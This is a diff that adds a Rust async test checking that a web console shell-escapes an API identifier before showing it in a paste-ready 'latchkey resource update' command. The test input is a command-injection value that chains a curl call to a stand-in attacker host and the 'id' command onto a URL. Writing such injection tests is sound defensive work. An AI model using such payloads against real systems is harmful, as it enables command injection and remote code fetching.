@@ -213,3 +213,18 @@ async fn attack_apis_are_the_owners_alone_and_ask_for_a_fresh_sign_in_and_our_ow
     })
     .await;
 }
+
+#[tokio::test]
+async fn attack_h2_the_command_of_an_api_is_one_for_whoever_pastes_it_too() {
+    on_each_pairing(async |given| {
+        let browser = console(&given).await;
+        let identifier = "https://api.example/v1;curl$IFS'evil.example/x'&id";
+        given.resource(identifier, "read", &[]).await;
+        given.provider.learn_changes().await.unwrap();
+        let page = browser.get(&path(identifier)).await;
+        assert_eq!(page.name(), "console-api", "{}", page.body);
+        let command = page.text(".command bdi");
+        assert_eq!(command, "latchkey resource update 'https://api.example/v1;curl$IFS'\\''evil.example/x'\\''&id'");
+    })
+    .await;
+}
